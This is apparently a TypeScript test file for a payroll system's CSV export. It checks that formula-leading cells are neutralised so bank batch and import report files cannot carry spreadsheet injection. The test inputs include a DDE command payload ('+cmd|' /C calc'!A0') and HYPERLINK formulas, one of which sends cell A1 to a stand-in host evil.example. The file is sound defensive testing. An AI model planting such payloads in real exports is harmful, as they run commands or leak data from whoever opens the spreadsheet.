// Issue 18, Medium 4 and "What to build" 5: CSV cells a spreadsheet would run as a formula are
// neutralised in every CSV download (bank batch file, import report); numbers stay numbers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { csvCell, neutralise, toCsv } from './csv.ts';
import { bankBatchCsv } from '../payments/export.ts';
import { FULL } from '../registry/presenters.ts';
import { reportCsv, type ImportReport } from '../registry/import.ts';
import type { PayrollLineRow } from '../payments/store.ts';
import { registryMember } from '../../test/helpers/registry.ts';

const rowsOf = (csv: string) => parse(csv, { bom: true }) as string[][];

test('text cells starting with = + - @ tab or CR get a leading quote; others and numbers are unchanged', () => {
  for (const s of ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1', '\r=1']) assert.equal(neutralise(s), `'${s}`);
  for (const s of ['Lò Văn Páo', '0123456789', 'a=b', '', "'already"]) assert.equal(neutralise(s), s);
  assert.equal(csvCell(-150000), '-150000');
  assert.equal(csvCell('=1+1'), `"'=1+1"`);
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell(null), '');
  assert.equal(
    toCsv([
      ['a', 1],
      ['-x', -2],
    ]),
    '\ufeffa,1\r\n"\'-x",-2\r\n',
  );
});

test('the bank batch CSV neutralises a name =HYPERLINK(...) and keeps the amount a number', () => {
  const line = (id: number, name: string, account: string, total: number): PayrollLineRow => ({
    person_id: id,
    full_name: name,
    personal_id: null,
    village_name: null,
    household_code: null,
    channel: 'bank',
    account,
    current_amount: total,
    arrears: 0,
    total,
    status: 'new' as PayrollLineRow['status'],
    category: null,
  });
  const csv = bankBatchCsv(7, 202607, [line(1, '=HYPERLINK("http://evil","Bấm")', '@123', 500000), line(2, 'Lò Thị Xuân', '0011223344', 750000)], FULL);
  const rows = rowsOf(csv);
  assert.equal(rows[1]![2], `'=HYPERLINK("http://evil","Bấm")`);
  assert.equal(rows[1]![1], `'@123`);
  assert.equal(rows[1]![3], '500000');
  assert.equal(rows[2]![2], 'Lò Thị Xuân');
  for (const r of rows) for (const c of r) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
});

test('the import report CSV does not echo a +cmd|... cell as a formula', () => {
  const r: ImportReport = {
    dryRun: true,
    alreadyImported: false,
    fileHash: 'x',
    counts: { new: 0, unchanged: 0, changed: 0, rejected: 1 },
    headerProblems: [],
    rows: [
      {
        row: 2,
        householdCode: "+cmd|' /C calc'!A0",
        fullName: '-2+3+cmd',
        status: 'rejected',
        reasons: [{ column: '=Bad', message: { vi: 'sai', en: 'bad' } }],
      },
    ],
  } as unknown as ImportReport;
  const rows = rowsOf(reportCsv(r));
  assert.equal(rows[1]![1], `'+cmd|' /C calc'!A0`);
  assert.equal(rows[1]![2], `'-2+3+cmd`);
  assert.equal(rows[1]![4], `'=Bad: sai`);
  for (const row of rows) for (const c of row) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
});

test('over HTTP: a beneficiary named =HYPERLINK(...) is neutralised in the payroll bank CSV', async () => {
  const { testApp } = await import('../../test/helpers/app.ts');
  const { createTestUser, sessionHeaders } = await import('../access/testing.ts');
  const { loadActor } = await import('../access/store.ts');
  const { withActor } = await import('../access/scope.ts');
  const reg = await import('../registry/store.ts');
  const pay = await import('../payments/store.ts');
  const { createDecision } = await import('../payments/decisions.ts');
  const t = await testApp();
  try {
    const officerId = await createTestUser(t.db, { username: 'csv-officer', role: 'officer', unitCode: '03439' });
    const headers = await sessionHeaders(t.db, officerId);
    const commune = (await reg.communeByCode(t.db.k, '03439'))!;
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")';
    const person = registryMember({ fullName: evil, dateOfBirth: '1938-01-01' }) as unknown as Parameters<typeof reg.registerHousehold>[3][number];
    const home = {
      code: 'CSV-1',
      villageId: null,
      address: '',
      area: 'rural' as const,
      incomePerMonth: 3_000_000,
      deprivations: {},
      disadvantagedArea: false,
      merit: false,
    };
    const { personIds } = await reg.registerHousehold(t.db.k, commune, home, [person], { by: 'test', reason: 'kiểm thử' });
    await createDecision(
      t.db.k,
      {
        personId: personIds[0]!,
        number: '9/QĐ-UBND',
        decidedOn: '2026-09-01',
        signer: 'x',
        kind: 'start',
        startMonth: 202609,
        channel: 'bank',
        account: '+0011223344',
      },
      'test',
    );
    const actor = (await loadActor(t.db.k, officerId))!;
    const summary = await withActor(t.db, actor, (tx) => pay.generatePayroll(tx, commune.id, 202609, 'csv-officer'));
    const r = await t.app.inject({ method: 'GET', url: `/api/payments/payrolls/${summary.payrollId}/export?format=bank-csv`, headers });
    assert.equal(r.statusCode, 200, r.body);
    assert.equal(r.headers['cache-control'], 'no-store');
    const rows = rowsOf(r.body);
    const line = rows.find((x) => x[2]!.includes('HYPERLINK'));
    assert.ok(line, r.body);
    assert.equal(line[2], `'${evil}`);
    assert.match(line[3]!, /^\d+$/, 'the amount stays a number');
    for (const row of rows) for (const c of row) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
  } finally {
    await t.close();
  }
});
